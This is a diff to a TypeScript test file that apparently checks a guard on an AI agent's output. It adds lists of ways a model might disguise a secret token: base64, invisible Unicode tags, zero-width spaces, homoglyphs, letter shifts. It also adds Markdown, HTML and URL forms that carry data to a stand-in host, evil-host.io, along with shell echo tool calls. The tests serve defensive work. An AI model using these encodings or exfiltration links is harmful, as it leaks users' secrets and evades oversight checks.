@@ -210,7 +210,7 @@ async function afterReading(
 const fine: Script = () => ({ type: 'message', text: 'Fine.' });
 const sayFine = (): ReturnType<Script> => fine({} as MessagesBody, { number: 1 });
 const answerOf = (ran: Ran): string =>
-  /"type":"answer".*?"text":"([^"]*)"/.exec(ran.stdout)?.[1] ?? '';
+  JSON.parse(`"${/"type":"answer".*?"text":"((?:[^"\\]|\\.)*)"/.exec(ran.stdout)?.[1] ?? ''}"`);
 const address = 'mara.keller@postfach-nord.de';
 
 escapeCase('personal data in a file', {
@@ -335,6 +335,8 @@ const shifted = (text: string, by: number): string =>
     return String.fromCharCode(first + ((letter.charCodeAt(0) - first + by) % 26));
   });
 /** How a model writes a secret that it was told to bring past a check. */
+const each = (turn: (code: number) => string): string =>
+  Array.from(token, (letter) => turn(letter.charCodeAt(0))).join('');
 const disguises: readonly [string, string][] = [
   ['in base64', Buffer.from(token).toString('base64')],
   ['in base64 within another text', Buffer.from(`x${token}?>?`).toString('base64url')],
@@ -355,6 +357,30 @@ const disguises: readonly [string, string][] = [
   ['with letters three further', shifted(token, 3)],
   ['in base64 that is turned', shifted(Buffer.from(token).toString('base64'), 13)],
   ['as code points', Array.from(hex.match(/../g) ?? [], (byte) => `U+00${byte}`).join(' ')],
+  ['as tags that nobody sees', each((code) => String.fromCodePoint(0xe0000 + code))],
+  [
+    'as variations that nobody sees',
+    each((code) => String.fromCodePoint(code < 16 ? 0xfe00 + code : 0xe0100 + code - 16)),
+  ],
+  [
+    'as spaces without a width',
+    each((code) =>
+      bits(String.fromCharCode(code), 8).replace(/\d/g, (bit) =>
+        bit === '0' ? '\u200b' : '\u200c',
+      ),
+    ),
+  ],
+  ['in numbers of three digits', each((code) => `${String(code).padStart(3, '0')} `)],
+  ['as calls', each((code) => `chr(${code})+`)],
+  ['in numbers with 0b', each((code) => `0b${bits(String.fromCharCode(code), 8)},`)],
+  ['with escapes of a shell', each((code) => `\\x{${code.toString(16)}}`)],
+  ['with letters eleven further', shifted(token, 11)],
+  ['with all signs turned', each((code) => String.fromCharCode(33 + ((code - 33 + 47) % 94)))],
+  ['as one number', BigInt(`0x${hex}`).toString()],
+  [
+    'in letters that look alike',
+    token.replace(/[aeopcx]/g, (one) => 'аеорсх'.charAt('aeopcx'.indexOf(one))),
+  ],
   ['in bits of seven', Array.from(token, (letter) => bits(letter, 7)).join(' ')],
 ];
 
@@ -367,20 +393,20 @@ escapeCase('secret in disguise', {
         const { ran } = await afterReading(`${token}\n`, () => ({ type: 'message', text }));
         for (const [name, disguise] of disguises) {
           expect(answerOf(ran), name).toContain(`${name}: `);
-          expect(answerOf(ran), name).not.toContain(JSON.stringify(disguise).slice(10, 30));
+          expect(answerOf(ran), name).not.toContain(disguise.slice(9, 29));
         }
       },
     ],
     [
       'no program and no network is given one',
       async () => {
-        const toolUses = disguises.map(([, disguise]) => ({
+        const toolUses = [...disguises, ...spelled].map(([, disguise]) => ({
           name: 'shell__run',
           input: { command: `echo ${disguise}` },
         }));
         const { ran } = await afterReading(`${token}\n`, () => ({ type: 'message', toolUses }));
         expect(ran.stdout.match(/"check":"echo","action":"refused"/g)).toHaveLength(
-          disguises.length,
+          toolUses.length,
         );
       },
     ],
@@ -429,6 +455,28 @@ const carriers: readonly [string, string][] = [
   ['a colon that Markdown reads', `https&#58;//evil-host.io/${dashed}`],
   ['a colon with a backslash', `https\\://evil-host.io/${dashed}`],
   ['a scheme of a program', `obsidian:new?content=${dashed}`],
+  ['its path, with letters moved on', `https://evil-host.io/${shifted(dashed, 13)}`],
+];
+/** A word of an answer is said before it is known what the next one adds. */
+const spelled: readonly [string, string][] = [
+  ['with words between', token.split('').join(' then ')],
+  ['as a numbered list', Array.from(token, (letter, at) => `${at + 1}. ${letter}`).join('\n')],
+  ['as a table', Array.from(token, (letter, at) => `| ${at} | ${letter} |`).join('\n')],
+];
+const forms: readonly [string, string][] = [
+  ['a reference', `[x]: https://evil-host.io/${dashed}`],
+  ['a reference with spaces', `[x]: <https://evil-host.io/${launch}>`],
+  ['an autolink', `<https://evil-host.io/${dashed}>`],
+  ['an autolink of a program', `<obsidian:new?content=${dashed}>`],
+  ['mail', `${dashed}@evil-host.io`],
+  ['quotes with spaces', `<img src = "https://evil-host.io/${launch}">`],
+  ['single quotes', `<img src='https://evil-host.io/${launch}'>`],
+  ['entities', `<img src="&#47;&#x2f;evil-host.io/${dashed}">`],
+  ['named entities', `<a href="&sol;&sol;evil-host.io/${dashed}">`],
+  ['slashes of JSON', `{"url":"https:\\/\\/evil-host.io\\/${dashed}"}`],
+  ['another host in brackets', `[[//evil-host.io/${dashed}][x]]`],
+  ['a port and a user', `https://ann:${dashed}@evil-host.io:8443/`],
+  ['a name in its own letters', `https://xn--${dashed}.evil-host.io/`],
 ];
 
 escapeCase('address that carries data away', {
@@ -450,6 +498,18 @@ escapeCase('address that carries data away', {
         const { ran } = await afterReading(`${launch}.\n`, () => ({ type: 'message', text }));
         for (const [name] of carriers)
           expect(answerOf(ran)).toContain(`${name}: ![x]([link withheld: `);
+      },
+    ],
+    [
+      'whatever Markdown, HTML or a reader takes for an address',
+      async () => {
+        const text = forms.map(([name, form]) => `${name}: ${form}`).join('\n\n');
+        const { ran } = await afterReading(`${launch}.\n`, () => ({ type: 'message', text }));
+        for (const [name] of forms) {
+          const said = answerOf(ran).split(`${name}: `)[1]?.split('\n\n')[0];
+          expect(said, name).toContain('[link withheld: ');
+          expect(said, name).not.toMatch(/ninth/i);
+        }
       },
     ],
     [
